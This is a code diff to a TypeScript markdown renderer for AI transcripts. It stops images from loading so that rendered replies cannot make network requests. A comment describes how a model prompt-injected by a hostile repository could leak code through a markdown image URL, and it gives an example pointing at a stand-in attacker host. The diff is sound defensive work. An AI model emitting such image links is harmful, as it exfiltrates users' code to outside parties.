@@ -1,6 +1,7 @@
 /**
  * Transcript entries → HTML strings. Markdown is rendered with raw HTML
- * disabled, so nothing a model or tool writes can inject markup or script.
+ * disabled, so nothing a model or tool writes can inject markup or script,
+ * and images are not loaded (nothing it writes makes a request).
  */
 import hljs from "highlight.js/lib/common";
 import MarkdownIt from "markdown-it";
@@ -20,6 +21,18 @@ function highlight(code: string, language: string): string {
 }
 
 const markdown = new MarkdownIt({ html: false, linkify: false, breaks: false, typographer: false, highlight });
+
+/**
+ * An image is shown as its text and address, never loaded: a model a hostile
+ * repository talked into it could write `![](https://attacker/?q=<your code>)`,
+ * and the webview would send that request the moment the reply is drawn.
+ */
+markdown.renderer.rules.image = (tokens, index) => {
+  const token = tokens[index];
+  const alt = (token?.children ?? []).map((child) => child.content).join("");
+  const src = String(token?.attrGet("src") ?? "");
+  return `<span class="image-ref">[image${alt ? `: ${escapeHtml(alt)}` : ""}] ${escapeHtml(src)}</span>`;
+};
 
 export function renderMarkdown(text: string): string {
   return markdown.render(text);
